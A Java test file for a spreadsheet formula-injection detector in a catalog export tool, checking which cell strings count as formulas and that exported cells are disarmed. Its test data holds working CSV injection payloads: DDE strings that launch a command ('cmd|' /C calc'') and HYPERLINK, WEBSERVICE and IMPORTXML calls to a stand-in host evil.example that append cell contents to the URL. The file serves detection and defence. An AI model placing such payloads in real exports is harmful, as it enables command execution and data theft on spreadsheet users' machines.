package io.greenroom.catalog.exchange;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.dataformat.yaml.YAMLFactory;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import net.jqwik.api.Arbitraries;
import net.jqwik.api.Arbitrary;
import net.jqwik.api.Combinators;
import net.jqwik.api.ForAll;
import net.jqwik.api.Property;
import net.jqwik.api.Provide;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class FormulasTest {
    private static final String BIG = "(".repeat(50_000);

    @ParameterizedTest
    @ValueSource(
            strings = {
                "=1+1",
                "=",
                "＝1",
                "\t=1+1",
                "\r\n=A1",
                "+HYPERLINK(\"https://evil.example\",\"Open\")",
                "-HYPERLINK(\"https://evil.example\";\"Open\")",
                "@hyperlink(\"https://evil.example\")",
                "- HYPERLINK(\"https://evil.example\") and more",
                "+WEBSERVICE(CONCATENATE(\"https://evil.example/\",A1))",
                "+nothing&WEBSERVICE(\"https://evil.example/\")",
                "-IMPORTXML(\"https://evil.example\",\"//a\")",
                "+_xlfn.WEBSERVICE(\"https://evil.example\")",
                "-SUM(A1:A9)",
                "- SUM(A1:A9)",
                "@SUM(A1:A9)",
                "@Sum(A1,B2)",
                "＋SUM(A1)",
                "＠SUM(A1)",
                "+-@SUM(A1)",
                "-1+SUM($A$1:$A$9)%",
                "+SUM(A:A)",
                "+SUM(1:3)",
                "+SUMME(A1:A9)",
                "+IF(A1>0,,\"a \"\"b\"\"\")",
                "+TODAY()",
                "-SQRT(64)",
                "+SUM({1,2;3,4})",
                "+A1",
                "-A1*B2",
                "+A1&B1",
                "+$A$1",
                "+Sheet2!A1",
                "+'my sheet'!A1",
                "-[other.xlsx]Sheet1!A1",
                "+'https://evil.example/[other.xlsx]Sheet1'!A1",
                "+cmd|' /C calc'!A0",
                "-2+3+cmd|' /C calc'!A0",
                "@SUM(1+9)*cmd|' /C calc'!A0",
                "-1\n+cmd|'/C calc'!A0",
                "+cmd|calc!A0",
                "+cmd|'/C echo it''s'!A0",
                "+'cmd'|'/C calc'!A0",
                "+cmd |'/C calc'!A0",
                "+'https://evil.example/[it''s.xlsx]S'!A1",
                "+IFERROR(#N/A,HYPERLINK(\"https://evil.example/?\"&A2,\"x\"))",
                "-1+WEBSERVICE(\"https://evil.example/?\"&A1#)",
                "- IF (1,HYPERLINK(\"https://evil.example/?\"&A2,\"x\"))"
            })
    void tellsAFormula(String cell) {
        assertThat(Formulas.isFormula(cell)).isTrue();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "",
                "'=1+1",
                "'+A1",
                "a = b",
                "A1",
                "SUM(A1:A9)",
                "@lru_cache(maxsize=None)",
                "@lru_cache(maxsize=None)\ndef f(n):\n    return n",
                "@cache\ndef sum(A1):\n    return A1",
                "@app.get(\"/x\")\nasync def x(): ...",
                "@router.get('/x')",
                "@pytest.mark.parametrize(\"n\", [1, 2])",
                "@torch.no_grad()",
                "@dataclass(frozen=True)",
                "@Override\npublic String toString() { return a|b; }",
                "@register(\"name\")\ndef f(): ...",
                "@property",
                "@greenroom says so",
                "@",
                "-",
                "+",
                "--verbose",
                "-k --count",
                "+1",
                "-1",
                "-0.5",
                "-1e-5",
                "-2+3",
                "+1 for naming the bound",
                "+49 30 1234",
                "-log(p)",
                "-log(p) of the right token",
                "-LOG(P)",
                "-sum(p * log(p))",
                "-KL(p, q)",
                "-ELBO(q)",
                "-E[log p(x)]",
                "-Q(s, a)",
                "-N(0, 1)",
                "-x^2/2",
                "-e^{-x}",
                "-\\sum_i p_i \\log p_i",
                "-(a + b) / 2",
                "-0.5 * x",
                "- a list\n- of two",
                "- A100\n- H100",
                "- L2",
                "- K1:V1",
                "- Max (3)",
                "- SUM over the batch",
                "- [x] done",
                "- a || b\n- c != d",
                "- `x|'a' != y`",
                "@f\ndef g(): return x|'b'!=c",
                "a == b | c != d",
                "- $100",
                "-$5",
                "+$20/month",
                "- $x",
                "- $a + b$",
                "- $p = q$"
            })
    void tellsATextOfQuestions(String cell) {
        assertThat(Formulas.isFormula(cell)).isFalse();
    }

    @Test
    void readsWhatIsNestedWithoutEndAndWhatIsLongAtOnce() {
        for (var cell :
                List.of(
                        "-" + BIG,
                        "-" + "(".repeat(4_000),
                        "+" + "a!".repeat(4_000),
                        "+" + "-".repeat(50_000),
                        "+" + "x|'".repeat(30_000),
                        "+" + "SUM(".repeat(2_000))) {
            assertThat(Formulas.isFormula(cell)).as(cell.substring(0, 10)).isFalse();
        }
        assertThat(Formulas.isFormula("=" + BIG)).isTrue();
    }

    /** Sums, products and comparisons of numbers, texts, cells and functions of these. */
    @Property
    void whateverASpreadsheetCanWorkOutIsAFormula(
            @ForAll("signs") String sign, @ForAll("expressions") String expression) {
        assertThat(Formulas.isFormula(sign + "SUM(A1:B2)+" + expression)).isTrue();
        assertThat(Formulas.isFormula(sign + expression + "&MAX(C3)")).isTrue();
    }

    /** Of which no spreadsheet knows the words. */
    @Property
    void whateverHasAWordThatNoSpreadsheetKnowsIsNone(
            @ForAll("signs") String sign, @ForAll("words") String word) {
        assertThat(Formulas.isFormula(sign + word)).isFalse();
        assertThat(Formulas.isFormula(sign + "2*" + word + "+max(" + word + ", 3)")).isFalse();
        assertThat(Formulas.isFormula("@" + word + "(" + word + "=1)\ndef f():\n    pass"))
                .isFalse();
    }

    @Property
    void whatAnExportWritesIsNone(
            @ForAll("signs") String sign, @ForAll("expressions") String expression) {
        assertThat(Formulas.isFormula(CsvCodec.disarmed(sign + expression))).isFalse();
    }

    @Provide
    Arbitrary<String> signs() {
        return Arbitraries.of("+", "-", "@", "＋", "－", "＠", "+-", "\t+", "\r\n-", "- ");
    }

    @Provide
    Arbitrary<String> words() {
        return Arbitraries.of(
                "loss",
                "p_i",
                "self.weight",
                "x_train",
                "logits",
                "nn.Module",
                "θ",
                "learning_rate");
    }

    @Provide
    Arbitrary<String> expressions() {
        return expressions(3);
    }

    private static Arbitrary<String> expressions(int deep) {
        var leaf =
                Arbitraries.of(
                        "1",
                        "0.5",
                        "2e3",
                        "\"a text\"",
                        "A1",
                        "$B$2",
                        "XFD9",
                        "TRUE",
                        "{1,2}",
                        "5%");
        if (deep == 0) {
            return leaf;
        }
        var inner = expressions(deep - 1);
        return Arbitraries.oneOf(
                leaf,
                inner.map(one -> "(" + one + ")"),
                inner.map(one -> "-" + one),
                Combinators.combine(
                                inner,
                                Arbitraries.of("+", "-", "*", " / ", "^", "&", "<>", ">=", "="),
                                inner)
                        .as((left, operator, right) -> left + operator + right),
                Combinators.combine(
                                Arbitraries.of("SUM", "If", "round", "CONCATENATE", "VAR.S"),
                                inner.list().ofMinSize(1).ofMaxSize(3),
                                Arbitraries.of(",", ";", ", "))
                        .as((name, all, comma) -> name + "(" + String.join(comma, all) + ")"));
    }

    /**
     * However a curator begins a line: none of what our own questions say is in the way. L3 or p95
     * alone is a cell once a sign stands before it.
     */
    @Test
    void noLineOfOurOwnQuestionsIsTakenForAFormula() throws IOException {
        var texts = new ArrayList<String>();
        var yaml = new ObjectMapper(new YAMLFactory());
        try (var files = Files.walk(Path.of("../content/questions"))) {
            for (var file : files.filter(file -> file.toString().endsWith(".yaml")).toList()) {
                collect(yaml.readTree(file.toFile()), texts);
            }
        }
        assertThat(texts).hasSizeGreaterThan(10_000);
        assertThat(texts).filteredOn(Formulas::isFormula).isEmpty();
        var lines =
                texts.stream()
                        .flatMap(String::lines)
                        .map(String::strip)
                        .filter(line -> !line.matches("[A-Za-z]{1,3}[0-9]+"))
                        .toList();
        for (var sign : List.of("- ", "+ ", "-", "+", "@")) {
            assertThat(lines.stream().map(line -> sign + line))
                    .filteredOn(Formulas::isFormula)
                    .as(sign)
                    .isEmpty();
        }
    }

    private static void collect(JsonNode node, List<String> texts) {
        if (node.isTextual()) {
            texts.add(node.asText());
        } else {
            node.forEach(part -> collect(part, texts));
        }
    }
}
